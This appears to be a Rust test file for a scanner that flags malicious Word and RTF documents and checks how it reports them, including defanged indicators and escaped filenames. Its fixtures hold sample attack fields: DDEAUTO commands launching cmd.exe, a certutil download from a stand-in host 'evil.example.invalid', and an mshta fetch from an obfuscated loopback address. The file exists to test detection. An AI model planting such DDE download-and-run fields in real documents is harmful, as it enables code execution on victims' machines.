//! The report for people.

use super::*;

#[test]
fn text_gives_the_verdict_first_and_then_what_to_know() {
    let folder = Folder::new();
    let bad = folder.file("bad.docx", &malicious());
    let run = run(&["scan", &bad]);
    let first = run.out.lines().next().unwrap();
    assert!(
        first.starts_with("MALICIOUS") && first.contains(&bad),
        "{first}"
    );
    for part in [
        "dde-auto (field)",
        r#"c:\windows\system32\cmd.exe /k calc.exe"#,
        "word/document.xml",
        "the document is opened",
        "T1559.002",
    ] {
        assert!(run.out.contains(part), "{part}: {}", run.out);
    }
    assert_eq!(run.err, "");
}

#[test]
fn addresses_are_defanged_where_they_are_no_quotation() {
    let document = fields([
        r#"DDEAUTO cmd "/c certutil -f http://evil.example.invalid/a.exe" it.em"#,
        r#"INCLUDETEXT "http://other.example.invalid/b.docx""#,
    ]);
    for verbose in ["--color=never", "--verbose"] {
        let run = run_with(&["scan", verbose, "-"], &document);
        let said = |label: &str| {
            let lines = run.out.lines().map(str::trim);
            lines
                .filter_map(|line| line.strip_prefix(label))
                .map(str::trim)
                .collect::<Vec<_>>()
        };
        let quoted = [said("command"), said("in file")].concat();
        assert_eq!(quoted.len(), 3, "{}", run.out);
        for line in quoted {
            assert!(line.contains("http://"), "{line}");
        }
        let safe = said("indicators");
        assert_eq!(safe.len(), 2, "{}", run.out);
        assert!(safe[0].contains("hxxp://evil[.]example[.]invalid/a.exe"));
        assert!(safe[1].contains("hxxp://other[.]example[.]invalid/b.docx"));
        assert_eq!(said("item"), ["it.em"]);
        for line in run.out.lines().map(str::trim) {
            let quotes = ["command", "in file", "starts"];
            if !quotes.iter().any(|label| line.starts_with(label)) {
                assert!(!line.contains("http://"), "{line}");
                assert!(!line.contains("example.invalid"), "{line}");
            }
        }
    }
}

#[test]
fn stages_and_disguised_addresses_are_shown() {
    let command = r#"DDEAUTO cmd "/c mshta http://office.example@0x7f.1/a.hta""#;
    let run = run_with(&["scan", "-"], &fields([command]));
    let lines: Vec<_> = run.out.lines().map(str::trim).collect();
    let stage = lines.iter().find(|line| line.starts_with("stage"));
    let stage = stage.unwrap_or_else(|| panic!("{}", run.out));
    assert!(
        stage.contains("mshta.exe hxxp://office[.]example@0x7f[.]1/a.hta"),
        "{stage}"
    );
    let named = lines
        .iter()
        .find(|line| line.starts_with("indicators"))
        .unwrap();
    for part in [
        "(is hxxp://127[.]0[.]0[.]1/a.hta)",
        "0x7f[.]1 (is 127[.]0[.]0[.]1)",
    ] {
        assert!(named.contains(part), "{named}");
    }
}

#[test]
fn what_stands_in_the_file_is_always_shown() {
    let bad = run_with(&["scan", "-"], &malicious());
    let quoted = r#"in file     DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
    assert!(bad.out.contains(quoted), "{}", bad.out);
    let same = fields(["DDEAUTO cmd calc"]);
    let same = run_with(&["scan", "-"], &same);
    assert!(
        same.out.contains("in file     DDEAUTO cmd calc"),
        "{}",
        same.out
    );
    assert!(!same.out.contains("means"), "{}", same.out);
}

#[test]
fn a_template_of_this_computer_is_not_called_remote() {
    for (template, title) in [
        ("Normal.dotm", "(template)"),
        ("http://h.example/t.dotm", "(remote-template)"),
    ] {
        let document = format!("{{\\rtf1{{\\*\\template {template}}}x}}");
        let run = run_with(&["scan", "--verbose", "-"], document.as_bytes());
        assert!(run.out.contains(title), "{template}: {}", run.out);
    }
}

#[test]
fn what_is_skipped_is_said_in_words() {
    let document = b"{\\rtf1{\\object\\objemb{\\*\\objdata 00}}x}";
    let run = run_with(&["scan", "--verbose", "-"], document);
    let said = "skipped, as it cannot hold a link: 1 piece of unknown data";
    assert!(run.out.contains(said), "{}", run.out);
}

#[test]
fn findings_without_effect_are_ordered_by_score() {
    // More than are shown, the worse ones last.
    let links: Vec<_> = (0..12)
        .map(|number| format!(r#"HYPERLINK "https://example.com/{number}""#))
        .chain((0..4).map(|number| format!(r#"INCLUDEPICTURE "http://example.com/{number}.png""#)))
        .collect();
    let document = fields(links.iter().map(String::as_str));
    let json = run_with(&["scan", "--format=json", "-"], &document);
    let report: Value = serde_json::from_str(&json.out).unwrap();
    let mut expected: Vec<u64> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["score"].as_u64().unwrap())
        .filter(|score| *score < 50)
        .collect();
    assert!(expected.len() > 11 && !expected.is_sorted_by(|a, b| a >= b));
    expected.sort_by(|a, b| b.cmp(a));
    let text = run_with(&["scan", "-"], &document);
    let brief: Vec<_> = text.out.lines().filter(|l| l.starts_with("  - ")).collect();
    assert_eq!(brief.len(), 11, "{}", text.out);
    for (line, score) in brief.iter().zip(&expected[..10]) {
        assert!(line.ends_with(&format!(", score {score}")), "{line}");
    }
    let more = expected.len() - 10;
    let worst = expected[10];
    assert!(
        brief[10].starts_with(&format!("  - {more} more, the worst with score {worst} ")),
        "{}",
        brief[10]
    );
}

#[test]
fn a_limit_gap_names_the_limit_to_raise() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let run = run(&["scan", TOO_SMALL, &clean]);
    assert!(run.out.starts_with("INCOMPLETE"), "{}", run.out);
    assert!(run.out.contains("--limits decoded-bytes="), "{}", run.out);
}

#[test]
fn text_has_one_line_for_a_path_that_cannot_be_read() {
    let folder = Folder::new();
    let missing = folder.path("missing.docx");
    let clean = folder.file("clean.docx", &harmless());
    let run = run(&["scan", &missing, &clean]);
    assert_eq!(run.err.lines().count(), 1, "{}", run.err);
    assert!(run.err.contains(&missing));
    assert!(run.out.contains(&clean), "it goes on: {}", run.out);
    assert!(run.out.contains("1 could not be read"), "{}", run.out);
}

#[test]
fn quiet_is_silent_about_clean_documents_only() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let bad = folder.file("bad.docx", &malicious());
    let missing = folder.path("missing.docx");
    let quiet = run(&["scan", "--quiet", &clean]);
    assert_eq!(
        (quiet.out.as_str(), quiet.err.as_str(), quiet.status),
        ("", "", 0)
    );
    let text = run(&["scan", "--quiet", &clean, &bad, &missing]);
    assert!(
        !text.out.contains("clean") && text.out.contains(&bad),
        "{}",
        text.out
    );
    assert!(text.err.contains(&missing));
    let lines = run(&["scan", "--quiet", "--format=jsonl", &clean, &bad, &missing]);
    assert_eq!(names(&rows(&lines)), [&bad, &missing]);
    let none = run(&["scan", "--quiet", "--format=jsonl", &clean]);
    assert_eq!((none.out.as_str(), none.status), ("", 0));
    let array = run(&["scan", "--quiet", "--format=json", folder.root(), TOO_SMALL]);
    assert_eq!(
        serde_json::from_str::<Vec<Value>>(&array.out)
            .unwrap()
            .len(),
        2
    );
}

#[test]
fn colour_follows_the_flag_and_no_color() {
    let folder = Folder::new();
    let bad = folder.file("bad.docx", &malicious());
    let colored = |arguments: &[&str], no_color: &str| {
        let all = [&["scan", bad.as_str()], arguments].concat();
        let output = support::command(&all)
            .env("NO_COLOR", no_color)
            .output()
            .unwrap();
        String::from_utf8(output.stdout).unwrap().contains('\u{1b}')
    };
    assert!(!colored(&[], ""), "not a terminal");
    assert!(!colored(&[], "1"));
    assert!(colored(&["--color=always"], ""));
    assert!(
        colored(&["--color=always"], "1"),
        "the flag is the nearer wish"
    );
    assert!(!colored(&["--color=never"], ""));
}

#[test]
fn what_a_terminal_would_obey_is_escaped() {
    let folder = Folder::new();
    let name = "a\u{1b}[31m\u{202e}.docx";
    let bad = folder.file(name, &malicious());
    let missing = folder.path("b\u{1b}[31m\u{202e}.docx");
    for format in ["text", "json", "jsonl"] {
        let run = run(&["scan", "--verbose", "--format", format, &bad, &missing]);
        let shown = [run.out, run.err].concat();
        assert!(
            !shown.contains(['\u{1b}', '\u{202e}']),
            "{format}: {shown:?}"
        );
    }
    let json = run(&["scan", "--format=json", &bad]);
    let report: Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!(report["document"]["name"], bad.as_str());
}
